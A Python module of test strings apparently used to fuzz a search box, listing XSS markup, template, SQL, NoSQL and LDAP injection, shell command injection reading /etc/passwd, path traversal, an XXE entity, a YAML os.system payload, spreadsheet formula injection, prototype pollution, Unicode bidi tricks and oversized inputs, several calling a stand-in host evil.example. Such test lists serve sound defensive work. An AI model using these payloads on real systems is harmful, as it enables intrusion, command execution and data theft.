"""Texts that somebody might type to break the search box: markup, code of many kinds, signs that turn or hide text, and sheer size."""

from __future__ import annotations

_MARKUP = [
    line
    for line in """
<a onmouseover=alert(1)>x</a>
<a href="java&#10;script:alert(1)">refund</a>
<a href=" &#14; javascript:alert(1)">refund</a>
<applet code=x>
<area href=javascript:alert(1)>
<b style="background:url(//evil.example/x)">refund
<bgsound src=javascript:alert(1)>
<body background=//evil.example/x.gif>
<button form=x formaction=javascript:alert(1)>refund
<canvas onclick=alert(1)>
<dialog open>refund</dialog>
<div style="position:fixed;inset:0;background:red">
<div style=width:expression(alert(1))>
<div popover=manual id=q>
<div id=hits role=listbox>
<div data-results>
<div data-copy=x>
<embed src=javascript:alert(1)>
<fencedframe>
<font face="x" onfocus=alert(1)>
<form><button formaction=//evil.example>
<frameset onload=alert(1)>
<h1>refund</h1><h2>refund</h2>
<html manifest=//evil.example/x>
<iframe src=//evil.example>
<image src=x onerror=alert(1)>
<img srcset="//evil.example/x 1x">
<img src=x:x onerror=alert`1`>
<img src=`x` onerror=alert(1)>
<img longdesc=x src=x onerror=alert(1)
<input type=image src=x onerror=alert(1)>
<isindex action=javascript:alert(1)>
<keygen autofocus onfocus=alert(1)>
<link rel=prefetch href=//evil.example>
<link rel=import href=data:text/html,x>
<listing>&lt;img src=x onerror=alert(1)></listing>
<mark><script>alert(1)</script></mark>
<math><a xlink:href=javascript:alert(1)>refund
<math><annotation-xml encoding=text/html><script>alert(1)</script>
<meta name=referrer content=unsafe-url>
<meta http-equiv=set-cookie content=a=b>
<noembed><img src=x onerror=alert(1)></noembed>
<object type=text/html data=//evil.example>
<option selected>refund
<p is=x-evil>refund
<param name=url value=javascript:alert(1)>
<plaintext>refund
<portal src=//evil.example>
<script type=module>import"//evil.example/x.js"</script>
<script src=data:,alert(1)></script>
<script>/*<!--*/alert(1)//--></script>
<select autofocus onfocus=alert(1)>
<slot name=x>refund</slot>
<style>@font-face{src:url(//evil.example)}</style>
<svg><a xlink:href=javascript:alert(1)><text>refund
<svg><foreignObject><iframe srcdoc=x>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><style>{font-family:'<iframe/onload=alert(1)>'
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">
<table background=javascript:alert(1)>
<template shadowrootmode=open><script>alert(1)</script>
<title><img src=x onerror=alert(1)></title>
<track src=x onerror=alert(1)>
<video poster=javascript:alert(1)>
<x onclick=alert(1)>refund
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<xmp><img src=x onerror=alert(1)></xmp>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>
<![CDATA[<script>alert(1)</script>]]>
<!--><img src=x onerror=alert(1)>-->
<!-- refund --!><script>alert(1)</script>
<</script/script><script>alert(1)</script>
&#0000060script&#0000062alert(1)
&lt;img src=x onerror=alert(1)&gt; &amp; refund
""".splitlines()
    if line
]

_CODE = [
    line
    for line in """
+title:x~9^99 -foo*
+question:refund -answer:return
question:*
*:*
refund^999999999
refund~99
refund~-1
-refund
+
-
* * *
~~~~
^^^^
refund:
:refund
((((((((((
[[[[[[[[[[
(a+)+$
^(([a-z])+.)+[A-Z]([a-z])+$
(?:(?:a|a)*)*b
.*.*.*.*.*.*.*.*=
(?<x>refund)\\k<x>
[\\s\\S]*
\\p{L}+
{"__proto__": {"polluted": true}}
{"constructor": {"prototype": {"polluted": true}}}
{"query": "refund", "results": []}
[1, 2, 3]
{}
[]
true
false
Infinity
-0
1e309
0x41414141
9007199254740993
prototype
isPrototypeOf
propertyIsEnumerable
toLocaleString
__defineGetter__
__lookupSetter__
__parent__
valueOf
then
length
name
hit-0
hits
q
innerHTML
document.cookie
window.location='//evil.example'
location.href
eval(atob('YWxlcnQoMSk='))
Function('alert(1)')()
import('//evil.example/x.js')
require('child_process').exec('id')
process.env
${7*7}${{7*7}}
{{7*'7'}}
{{config.items()}}
{% include '/etc/passwd' %}
{# refund #}
{{{refund}}}
<#assign x="freemarker.template.utility.Execute"?new()>
#set($x=7*7)$x
@(7*7)
~{7*7}
<%- include('x') %>
<?php echo 7*7; ?>
*{7*7}
' OR '1'='1
" OR ""="
1; SELECT pg_sleep(9)
refund' UNION SELECT password FROM users --
admin'/*
); DELETE FROM answers WHERE (1=1
{"$gt": ""}
{"$where": "sleep(9)"}
*)(uid=*))(|(uid=*
' or count(/*)=1 or 'a'='b
; cat /etc/passwd
| id
`id`
$(id)
& ping evil.example &
%0d%0aSet-Cookie:a=b
%0aLocation://evil.example
refund%00.html
..\\..\\windows\\win.ini
....//....//etc/passwd
file:///etc/passwd
ftp://evil.example/refund
\\\\evil.example\\share
mailto:x@evil.example?bcc=y@evil.example
refund&cc=evil@evil.example&bcc=evil@evil.example&body=evil
?body=x&subject=y#z
tel:+1
blob:https://evil.example/x
view-source:javascript:alert(1)
jar:x!/
ws://evil.example
#q=<img src=x onerror=alert(1)>
&q=refund&q=return
q=a;q=b
http://[::1]:99999/
https://user:pass@evil.example/
%u003Cscript%u003E
%C0%BCscript%C0%BE
%2525253Cscript
=1+1
=cmd|' /C calc'!A0
@SUM(1+1)
## refund
> refund
- [ ] refund
| a | b |
---
```alert(1)```
[refund]: javascript:alert(1)
<javascript:alert(1)>
!!python/object/apply:os.system ['id']
&a [*a, *a]
""".splitlines()
    if line
]

_SIGNS = [
    "\u202erefund\u202d time",
    "\u2067refund\u2069",
    "\u2068\u202e\u2067refund",
    "\u061crefund\u200f",
    "re\u00adfu\u00adnd",
    "r\u200be\u200bf\u200bu\u200bn\u200bd",
    "refund\u2060time",
    "\u180erefund",
    "refund\u034f",
    "refund\ufe0f\u20e3",
    "\U000e0001\U000e0072\U000e0065",
    "".join(map(chr, range(1, 32))) + "refund",
    "".join(map(chr, range(127, 160))) + "refund",
    "refund\u2028time\u2029",
    "refund\u0085time",
    "\u3000refund\u3000",
    "\ufffd\ufffe\uffff",
    "\ufdd0\ufdef",
    "\U0010ffff",
    "\ue000\uf8ff",
    "\ud83d refund \udca9",
    "\udca9\ud83d",
    "\udbff\udfff\udbff",
    "👩‍👩‍👧‍👦 refund",
    "🇺🇸🇺",
    "👍🏿" * 40,
    "e" + "\u0301" * 400,
    "".join("re\u0300\u0316fu\u0489nd") * 20,
    "ﷺ" * 50,
    "𒐫𒈙⸻",
    "İıſKÅ refund",
    "ΐ ﬃ Ǆ ß ẞ",
    "שלום refund עולם",
    "مرحبا refund",
    "我的退款在哪里",
    "返金はいつですか",
    "환불 언제 되나요",
    "где мой возврат",
    "कब वापस",
    "กี่วันได้เงินคืน",
    "ｊａｖａｓｃｒｉｐｔ：ａｌｅｒｔ（１）",
    "‹script›alert(1)‹/script›",
    "⟨img src=x onerror=alert(1)⟩",
    "˂script˃",
    "ʺ onfocus=alert(1) ʺ",
    "refund" + "\t" * 50 + "time",
]

_SIZE = [
    "a" * 2000,
    "refund" * 330,
    "re fu nd " * 220,
    "(" * 1000 + ")" * 1000,
    "{{" * 1000,
    "<b>" * 600,
    "&amp;" * 400,
    "\\" * 2000,
    "%" * 2000,
    "\u202e" * 2000,
    "\u0301" * 2000,
    "a" * 50 + "!" + "a" * 1900,
    " ".join(f"word{number}" for number in range(250)),
    "a " * 1000,
    "'" * 2000,
    "-" * 2000,
    "supercalifragilisticexpialidocious" * 58,
    "0" * 2000,
    "🏴" * 1000,
]

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>alert(1)//",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=//evil.example/pixel.gif>",
    "<img src=\"x\" onerror='alert(1)'> refund",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css'</style>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=card>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>refund</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<mark onclick=alert(1)>refund</mark>",
    "<b>refund</b>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//refund",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/refund",
    "https://evil.example/",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) '",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "`-alert(1)-`",
    "';alert(1);//",
    '\\";alert(1);//',
    "\\u003cscript\\u003ealert(1)",
    "{{ 7*7 }}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raw %}{{ refund.time }}",
    "[[${7*7}]]",
    "[x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)",
    "＜script＞alert(1)＜/script＞",
    "\u202e<gpj.tpircs> dnufer",
    "\u2066refund\u2069\u202d",
    "\u200b\u200c\u200d\ufeff",
    "refund\u0000<script>alert(1)</script>",
    "\u0000",
    "\u0007\u001b[31mrefund",
    "\ud800",
    "\udc00 refund",
    "refund \ud83d",
    "\ud83d\ud83d",
    "\uffff\ufffe",
    "Z̵̢̛a̷l̶g̴o̵ refund",
    "💸" * 60,
    "a" * 3000,
    "<" * 3000,
    "\"'<>&\\/`=" * 40,
    "refund " * 300,
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString valueOf",
    "../../../etc/passwd",
    "'; DROP TABLE answers; --",
    "?q=<script>alert(1)</script>&q=2#<img src=x onerror=alert(1)>",
    "-1 OR 1=1",
    "%",
    "%E0%A4%A",
    "%00",
    "\\",
    "null",
    "undefined",
    "NaN",
    "[object Object]",
    *_MARKUP,
    *_CODE,
    *_SIGNS,
    *_SIZE,
]
"""All of them, each once."""
